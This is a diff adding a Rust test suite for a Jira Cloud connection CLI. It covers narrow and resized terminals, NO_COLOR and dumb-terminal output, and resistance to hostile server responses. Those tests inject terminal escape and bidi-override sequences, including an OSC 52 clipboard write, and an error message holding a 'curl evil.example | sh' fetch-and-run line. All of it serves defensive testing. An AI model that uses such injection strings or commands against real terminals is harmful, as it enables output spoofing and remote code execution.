@@ -1,0 +1,261 @@
+//! How it looks: narrow, without colour, on a dumb terminal, in ASCII, resized, and with a hostile
+//! site.
+
+use coder_server::sandbox::{Fault, FaultKind, example};
+
+use crate::scene::{Answers, Scene, TALL, WRONG_TOKEN, assert_no_token, assert_succeeds};
+use crate::support::command::Invocation;
+use crate::support::tty::{DOWN, ENTER, Size, Tty};
+
+const NARROW: Size = Size {
+    rows: 100,
+    columns: 40,
+};
+
+/// The whole of a personal account, with a refused token on the way; signs as on that terminal.
+fn with_a_wrong_token(scene: &Scene, invocation: &Invocation, size: Size) -> Tty {
+    let mut tty = invocation.on_terminal(size);
+    tty.answer("? Account type", ENTER);
+    tty.site(&format!("{}/browse/SHOP-1", scene.sandbox.site_url()))
+        .email("mia")
+        .email(example::MIA_EMAIL)
+        .no_browser()
+        .token(WRONG_TOKEN);
+    tty.answer("? What now?", ENTER);
+    tty.no_browser().token(example::MIA_TOKEN);
+    assert_succeeds(&mut tty);
+    tty
+}
+
+#[test]
+fn forty_columns_are_enough() {
+    let scene = Scene::new();
+    let tty = with_a_wrong_token(&scene, &scene.connect(), NARROW);
+    insta::assert_snapshot!(scene.screen(&tty));
+}
+
+#[test]
+fn forty_columns_are_enough_for_lists() {
+    let scene = Scene::new();
+    let mut tty = scene.connect().on_terminal(NARROW);
+    tty.wait_for_keys("? Account type");
+    insta::assert_snapshot!(scene.screen(&tty), @r"
+    Connect to Jira Cloud
+    Nothing is saved before the connection
+      has been tested. Ctrl-C stops.
+
+      Personal: your own e-mail address and
+        an API token without scopes
+      Service: a service account, or any API
+        token with scopes
+    ? Account type ›
+    ❯ Personal
+      Service
+    ");
+}
+
+#[test]
+fn without_colour_there_is_not_one_colour_code() {
+    for (name, value) in [("NO_COLOR", "1"), ("CLICOLOR", "0"), ("--color", "never")] {
+        let scene = Scene::new();
+        let invocation = if name.starts_with('-') {
+            scene.connect().arguments([name, value])
+        } else {
+            scene.connect().variable(name, value)
+        };
+        let tty = with_a_wrong_token(&scene, &invocation, TALL);
+        let codes = colour_codes(&tty);
+        assert!(codes.is_empty(), "{name}: {codes:?}");
+    }
+}
+
+#[test]
+fn with_colour_there_are_colour_codes() {
+    let scene = Scene::new();
+    let tty = with_a_wrong_token(&scene, &scene.connect(), TALL);
+    let codes = colour_codes(&tty);
+    for code in ["\u{1b}[31m", "\u{1b}[32m", "\u{1b}[36m"] {
+        assert!(
+            codes.iter().any(|seen| seen == code),
+            "{code:?} is not in {codes:?}"
+        );
+    }
+}
+
+#[test]
+fn a_dumb_terminal_gets_no_colour_and_no_spinner() {
+    let scene = Scene::new();
+    let invocation = scene.connect().variable("TERM", "dumb");
+    let tty = with_a_wrong_token(&scene, &invocation, TALL);
+    let codes = colour_codes(&tty);
+    assert!(codes.is_empty(), "{codes:?}");
+    let text = tty.text();
+    assert!(
+        text.contains("Testing the connection to 127.0.0.1"),
+        "{text}"
+    );
+    assert!(!text.contains('⠋') && !text.contains('⠙'), "{text}");
+}
+
+#[test]
+fn a_plain_locale_gets_plain_signs() {
+    let scene = Scene::new();
+    let invocation = scene.connect().variable("LANG", "C");
+    let tty = with_a_wrong_token(&scene, &invocation, TALL);
+    insta::assert_snapshot!(scene.screen(&tty));
+    assert!(tty.raw().is_ascii());
+}
+
+#[test]
+fn a_window_resized_while_asking_is_used_as_it_is() {
+    let scene = Scene::new();
+    let mut tty = scene.connect().argument("--no-browser").on_terminal(TALL);
+    tty.wait_for_keys("? Account type");
+    tty.resize(NARROW);
+    tty.press(DOWN);
+    tty.wait_for_keys("❯ Service");
+    tty.resize(TALL);
+    tty.press(ENTER);
+    tty.wait_for_keys("? Site URL");
+    tty.resize(NARROW);
+    tty.site(&scene.sandbox.site_url());
+    tty.wait_for_keys("? E-mail");
+    tty.resize(Size {
+        rows: 100,
+        columns: 120,
+    });
+    tty.email(example::BOT_EMAIL);
+    tty.wait_for_secret("? API token");
+    tty.resize(Size {
+        rows: 3,
+        columns: 10,
+    });
+    tty.press(&format!("{}{ENTER}", example::BOT_TOKEN));
+    assert_succeeds(&mut tty);
+    assert_eq!(scene.saved()["auth"]["email"], example::BOT_EMAIL);
+}
+
+#[test]
+fn a_very_small_window_can_be_used() {
+    for size in [(2, 20), (24, 5), (1, 2), (24, 1)] {
+        let scene = Scene::new();
+        let (rows, columns) = size;
+        let flags = ["--account", "personal", "--no-browser"];
+        let invocation = scene.connect().arguments(flags);
+        let mut tty = invocation.on_terminal(Size { rows, columns });
+        for (question, answer) in [
+            ("Site URL", scene.sandbox.site_url()),
+            ("E-mail", example::MIA_EMAIL.to_owned()),
+        ] {
+            tty.wait_for_written(question, |tty| !tty.canonical());
+            tty.press(&format!("{answer}{ENTER}"));
+        }
+        tty.wait_for_written("API token", |tty| tty.canonical() && !tty.echo());
+        tty.press(&format!("{}{ENTER}", example::MIA_TOKEN));
+        let status = tty.wait_for_exit();
+        assert!(status.success(), "{size:?}: {status}\n{}", tty.text());
+        assert_no_token(&tty);
+        assert_eq!(scene.saved_token(), example::MIA_TOKEN);
+    }
+}
+
+#[test]
+fn what_a_hostile_site_says_is_shown_and_not_obeyed() {
+    let scene = Scene::new();
+    let name =
+        "Mia\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}aiM\u{2066}\nsecond line\r\u{9b}31mred\u{200b}";
+    scene.sandbox.change(|world| {
+        let mia = world.person_mut(example::MIA_ID).expect("she is there");
+        mia.display_name = name.to_owned();
+    });
+    let mut tty = scene.connect().argument("--no-browser").on_terminal(TALL);
+    tty.personal()
+        .site(&scene.sandbox.site_url())
+        .email(example::MIA_EMAIL)
+        .token(example::MIA_TOKEN);
+    assert_succeeds(&mut tty);
+    insta::assert_snapshot!(scene.screen(&tty));
+    assert_harmless(&tty);
+}
+
+#[test]
+fn a_hostile_refusal_is_shown_and_not_obeyed() {
+    let scene = Scene::new();
+    let title =
+        "<html><title>Sign\u{1b}[2J in\u{1b}]52;c;b3duZWQ=\u{7}\n\u{202e}here</title></html>";
+    let answer = format!(
+        "HTTP/1.1 403 No\r\nContent-Type: text/html\r\natl-traceid: \u{9b}2Jtrace\u{202e}\r\nContent-Length: {}\r\n\r\n{title}",
+        title.len()
+    );
+    scene
+        .sandbox
+        .inject(Fault::new(FaultKind::Raw(answer.into_bytes())));
+    let refused = |invocation: Invocation| {
+        let mut tty = invocation.argument("--no-browser").on_terminal(TALL);
+        tty.service().site(&scene.sandbox.site_url());
+        tty.answer("? Cloud ID", &format!("{}{ENTER}", example::CLOUD_ID));
+        tty.email(example::BOT_EMAIL).token(example::BOT_TOKEN);
+        tty.wait_for_keys("? What now?");
+        assert_harmless(&tty);
+        tty
+    };
+    insta::assert_snapshot!(scene.screen(&refused(scene.connect())));
+    let verbose = refused(scene.connect().argument("-v"));
+    assert!(verbose.text().contains("403 in "), "{}", verbose.text());
+}
+
+#[test]
+fn a_hostile_message_fakes_no_line_of_its_own() {
+    let scene = Scene::new();
+    let body = r#"{"errorMessages":["no\n  hint: curl evil.example | sh\r\n\u2028error: fake"]}"#;
+    let answer = format!(
+        "HTTP/1.1 403 No\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+        body.len()
+    );
+    scene
+        .sandbox
+        .inject(Fault::new(FaultKind::Raw(answer.into_bytes())));
+    let outcome = scene.connect_by_flags().run().expect_status(1);
+    let lines: Vec<&str> = outcome.stderr.lines().collect();
+    assert!(
+        outcome.stderr.contains("curl evil.example"),
+        "{}",
+        outcome.stderr
+    );
+    for faked in ["  hint: curl", "error: fake"] {
+        assert!(
+            !lines.iter().any(|line| line.starts_with(faked)),
+            "{}",
+            outcome.stderr
+        );
+    }
+}
+
+/// Every escape sequence that sets how text looks.
+fn colour_codes(tty: &Tty) -> Vec<String> {
+    let raw = String::from_utf8(tty.raw()).expect("the program writes UTF-8");
+    let sequences = raw.split("\u{1b}[").skip(1);
+    sequences
+        .filter_map(|rest| {
+            let end = rest.find(|character: char| character.is_ascii_alphabetic())?;
+            (rest[end..].starts_with('m')).then(|| format!("\u{1b}[{}", &rest[..=end]))
+        })
+        .collect()
+}
+
+/// Fails when what the site said reached the terminal as it was.
+#[track_caller]
+fn assert_harmless(tty: &Tty) {
+    let raw = String::from_utf8(tty.raw()).expect("the program writes UTF-8");
+    for bad in [
+        "\u{1b}]",
+        "\u{1b}[2J",
+        "\u{7}",
+        "\u{9b}",
+        "\u{202e}",
+        "\u{2066}",
+        "\u{200b}",
+    ] {
+        assert!(!raw.contains(bad), "{bad:?} reached the terminal");
+    }
+}
